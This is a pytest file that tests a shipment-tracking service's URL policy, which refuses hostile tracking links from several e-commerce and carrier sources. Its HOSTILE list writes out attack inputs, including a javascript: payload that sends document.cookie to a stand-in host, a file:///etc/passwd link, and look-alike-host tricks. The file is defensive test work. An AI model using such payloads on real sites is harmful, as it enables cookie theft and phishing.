"""Links: a source's ``tracking_url`` is shown only when it is https on the carrier's or the service's domain.

Starting from hostile links (``javascript:``, look-alike hosts, user-info tricks, plain http, control
characters), each mapper that takes a link from its source (AfterShip, Shopify, WooCommerce, Karrio,
EasyPost, the own backend) must drop it and show the carrier page built from the carrier table instead.
Plain http is accepted only for a loopback host that is the tracking service itself.
"""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest

from services.carriers import checked_url, safe_link, tracking_url
from services.domain import Order, Shipment
from services.domain.hosts import is_loopback_host as is_loopback
from services.sources.registry import normalize
from tests.support.paths import VENDOR_FIXTURES

NUMBER = "1Z5R89390357567127"
UPS_PAGE = f"https://www.ups.com/track?tracknum={NUMBER}"
FIXTURES = VENDOR_FIXTURES
NEEDS_FIXTURES = pytest.mark.skipif(not FIXTURES.is_dir(), reason="shared vendor fixtures not checked out")

HOSTILE = [
    f"javascript:alert(document.cookie)//{NUMBER}",
    f"JaVaScRiPt:fetch('//evil.example/'+document.cookie)//www.ups.com/{NUMBER}",
    f"data:text/html,<script>alert(1)</script>{NUMBER}",
    f"vbscript:msgbox({NUMBER})",
    f"file:///etc/passwd?{NUMBER}",
    f"http://evil.example/track?tracknum={NUMBER}",
    f"https://evil.example/track?tracknum={NUMBER}",
    f"http://www.ups.com/track?tracknum={NUMBER}",  # the carrier, but in clear text
    f"https://ups.com.evil.example/track?tracknum={NUMBER}",
    f"https://www.ups.com.evil.example/track?tracknum={NUMBER}",
    f"https://evilups.com/track?tracknum={NUMBER}",
    f"https://evil.example/ups.com/track?tracknum={NUMBER}",
    f"https://evil.example/?next=https://www.ups.com/{NUMBER}",
    f"https://ups.com@evil.example/track?tracknum={NUMBER}",
    f"https://www.ups.com:443@evil.example/{NUMBER}",
    f"https://user:pass@www.ups.com/track?tracknum={NUMBER}",
    f"https://evil.example#@www.ups.com/{NUMBER}",
    f"https://evil.example\\@www.ups.com/{NUMBER}",
    f"https://www.ups.com\\@evil.example/{NUMBER}",
    f"//evil.example/{NUMBER}",
    f"https:evil.example/{NUMBER}",
    f"https://www.ups.com:8443/track?tracknum={NUMBER}",
    f"https://www.ups.com./track?tracknum={NUMBER}",
    f"https://www.ups.com/track?tracknum={NUMBER}\x00",
    f"https://www.ups.com/\x1b[31mtrack?tracknum={NUMBER}",
    f"https://www.ups.com/track?tracknum={NUMBER}\u202egpj.exe",
    f"https://www.ÜPS.com/track?tracknum={NUMBER}",
    f"https://xn--ps-dka.com/track?tracknum={NUMBER}",
    f"https://127.0.0.1/track?tracknum={NUMBER}",
    f"http://127.0.0.1:8080/track?tracknum={NUMBER}",
    f"http://127.attacker.example/track?tracknum={NUMBER}",
    f"http://localhost.evil.example/track?tracknum={NUMBER}",
    "https://www.ups.com/track?tracknum=1Z999AA10123456784",  # the carrier's page, another parcel
    "https://www.ups.com/" + "a" * 5000 + NUMBER,
]


@pytest.mark.parametrize("url", HOSTILE)
def test_hostile_links_are_refused_and_the_carrier_page_is_built(url: str) -> None:
    """Every hostile link fails the policy; the shipment links to the carrier page from the table."""
    assert safe_link(url, "ups", NUMBER) is None
    assert safe_link(url, "ups", NUMBER, "aftership") is None
    assert checked_url(url, "ups", NUMBER) == UPS_PAGE
    assert checked_url([url, None, ""], "ups", NUMBER, "easypost") == UPS_PAGE


def test_unknown_carrier_gets_no_link_at_all() -> None:
    """A carrier the table does not know has no trusted domain: its links are dropped, none is invented."""
    assert checked_url(f"https://some-courier.example/t/{NUMBER}", "some-courier", NUMBER) is None
    assert checked_url(f"https://some-courier.example/t/{NUMBER}", "unrecognized", NUMBER) is None


@pytest.mark.parametrize(
    ("url", "slug", "service"),
    [
        (UPS_PAGE, "ups", None),
        (f"HTTPS://WWW.UPS.COM/track?tracknum={NUMBER.lower()}", "ups", None),
        (f"https://www.ups.com:443/track?tracknum={NUMBER}", "ups", None),
        (f"https://www.ups.com/track?\n tracknum={NUMBER}", "ups", None),  # WooCommerce's wrapped links
        (f"https://track.aftership.com/trackings?tracking-numbers={NUMBER}", "ups", "aftership"),
        (f"https://t.17track.net/en#nums={NUMBER}", "ups", "17track"),
        ("https://track.easypost.com/djE6dHJrXzkxMzU4NjI3Mjk3MzRkOTZhZDJmOWVkMGYwNTY1YTI3", "usps", "easypost"),
        ("https://jouw.postnl.nl/track-and-trace/3SABCD0123456-NL-2512CB", "postnl", None),
    ],
)
def test_carrier_and_service_pages_are_kept(url: str, slug: str, service: str | None) -> None:
    """https on the carrier's domain naming the number, or on the reporting service's own domain, stays."""
    number = "3SABCD0123456" if slug == "postnl" else ("EZ1000000001" if slug == "usps" else NUMBER)
    assert safe_link(url, slug, number, service) == "".join(url.split())


def test_service_pages_only_for_that_service() -> None:
    """An AfterShip page from EasyPost, or an opaque EasyPost page from AfterShip, is not trusted."""
    aftership = f"https://track.aftership.com/trackings?tracking-numbers={NUMBER}"
    easypost = "https://track.easypost.com/djE6dHJrXzkxMzU4NjI3Mjk3MzRkOTZhZDJmOWVkMGYwNTY1YTI3"
    assert safe_link(aftership, "ups", NUMBER, "easypost") is None
    assert safe_link(easypost, "ups", NUMBER, "aftership") is None
    assert safe_link("https://www.aftership.com/couriers", "ups", NUMBER, "aftership") is None  # not this parcel


def test_plain_http_only_to_a_loopback_tracking_service() -> None:
    """http is fine for a self-hosted service on this machine, never for a name that merely starts with 127."""
    local = f"http://127.0.0.1:5002/v1/trackers/{NUMBER}"
    assert safe_link(local, "ups", NUMBER, service_hosts=["127.0.0.1"]) == local
    assert safe_link(f"http://[::1]:5002/t/{NUMBER}", "ups", NUMBER, service_hosts=["::1"]) is not None
    assert safe_link(f"http://localhost:5002/t/{NUMBER}", "ups", NUMBER, service_hosts=["localhost"]) is not None
    assert safe_link(local, "ups", NUMBER) is None  # loopback, but not the service that sent it
    assert safe_link(f"http://10.0.0.5:5002/t/{NUMBER}", "ups", NUMBER, service_hosts=["10.0.0.5"]) is None
    assert [is_loopback(h) for h in ("localhost", "127.0.0.1", "127.9.9.9", "::1", "[::1]")] == [True] * 5
    assert [is_loopback(h) for h in ("127.attacker.example", "0.0.0.0", "10.0.0.1", "localhost.example")] == [False] * 4


# ---------------------------------------------------------------- through the mappers


def _load(name: str) -> Any:
    return json.loads((FIXTURES / name).read_text(encoding="utf-8"))


def _shipments(kind: str, payload: object) -> list[Shipment]:
    _, items = normalize(kind, payload)
    found: list[Shipment] = []
    for item in items:
        if isinstance(item, Shipment):
            found.append(item)
        elif isinstance(item, Order):
            found.extend(item.shipments)
    assert found, kind
    return found


BAD = "https://ups.com@evil.example/track?tracknum={number}"


@NEEDS_FIXTURES
def test_aftership_links_pass_the_policy() -> None:
    """AfterShip's courier_tracking_link / courier_redirect_link: hostile ones become the carrier page."""
    payload = copy.deepcopy(_load("aftership/2023-10_get_tracking_by_slug_number__aftership-sdk-nodejs-test.json"))
    tracking = payload["data"]["tracking"]
    number = tracking["tracking_number"]
    tracking["courier_tracking_link"] = f"javascript:alert(1)//{number}"
    tracking["courier_redirect_link"] = BAD.format(number=number)
    (shipment,) = _shipments("aftership", payload)
    assert shipment.tracking_url == tracking_url(shipment.carrier, number)
    assert shipment.tracking_url is not None and shipment.tracking_url.startswith("https://www.ups.com/")


@NEEDS_FIXTURES
def test_shopify_links_pass_the_policy() -> None:
    """Shopify's tracking_urls: a look-alike host is replaced by the carrier page."""
    payload = copy.deepcopy(_load("shopify/rest_2026-07_GET_orders_450789469_fulfillments__docs-generated-test.json"))
    fulfillment = payload["fulfillments"][0]
    fulfillment["tracking_company"] = "UPS"
    fulfillment["tracking_number"] = NUMBER
    fulfillment["tracking_numbers"] = [NUMBER]
    fulfillment["tracking_url"] = f"https://www.ups.com.evil.example/track?tracknum={NUMBER}"
    fulfillment["tracking_urls"] = [f"http://www.ups.com/track?tracknum={NUMBER}"]
    (shipment,) = _shipments("shopify", payload)
    assert shipment.tracking_url == UPS_PAGE


@NEEDS_FIXTURES
def test_woocommerce_links_pass_the_policy() -> None:
    """WooCommerce's custom_tracking_link / tracking_link: user-info tricks are refused."""
    payload = copy.deepcopy(_load("woocommerce/shipment-tracking_POST_create_response__extension-docs.json"))
    payload["tracking_provider"] = "UPS"
    payload["tracking_number"] = NUMBER
    payload["tracking_link"] = BAD.format(number=NUMBER)
    payload["custom_tracking_link"] = f"https://evil.example/ups.com/{NUMBER}"
    (shipment,) = _shipments("woocommerce", payload)
    assert shipment.tracking_url == UPS_PAGE


@NEEDS_FIXTURES
def test_karrio_links_pass_the_policy() -> None:
    """Karrio's carrier_tracking_link: plain http to an outside host is refused."""
    payload = copy.deepcopy(_load("karrio/rest_tracker_tracking_response__server-test.json"))
    number = payload["tracking_number"]
    payload["info"]["carrier_tracking_link"] = f"http://evil.example/track?tracknum={number}"
    (shipment,) = _shipments("karrio", payload)
    assert shipment.tracking_url == tracking_url("ups", number)


@NEEDS_FIXTURES
def test_easypost_public_url_passes_the_policy() -> None:
    """EasyPost's public_url is kept on track.easypost.com, refused elsewhere (test mode included)."""
    payload = copy.deepcopy(_load("easypost/tracker_retrieve_pre_transit__docs-responses.json"))
    (kept,) = _shipments("easypost", payload)
    assert kept.tracking_url == payload["public_url"]
    payload["public_url"] = f"https://track.easypost.com.evil.example/{payload['tracking_code']}"
    (shipment,) = _shipments("easypost", payload)
    assert shipment.tracking_url == tracking_url("usps", payload["tracking_code"])


def test_own_backend_links_pass_the_policy() -> None:
    """The own backend's orders: a hostile shipment link becomes the carrier page, a good one stays."""
    order = {
        "order_number": "W-1",
        "source": "backend",
        "channel": "web",
        "placed_at": "2026-11-20T09:15:00Z",
        "status": "shipped",
        "currency": "EUR",
        "total": "10.00",
        "tax_total": "0.00",
        "items": [],
        "events": [],
        "shipments": [
            {"tracking_number": NUMBER, "carrier": "ups", "carrier_name": "UPS", "tracking_url": url, "events": []}
            for url in (f"javascript:alert(1)//{NUMBER}", BAD.format(number=NUMBER), UPS_PAGE)
        ],
    }
    shipments = _shipments("ordertrack", {"orders": [order]})
    assert [s.tracking_url for s in shipments] == [UPS_PAGE] * 3
    unknown = {**order, "shipments": [{**order["shipments"][0], "carrier": "some-courier"}]}
    (shipment,) = _shipments("ordertrack", {"orders": [unknown]})
    assert shipment.tracking_url is None  # no trusted domain for it, and no page to build
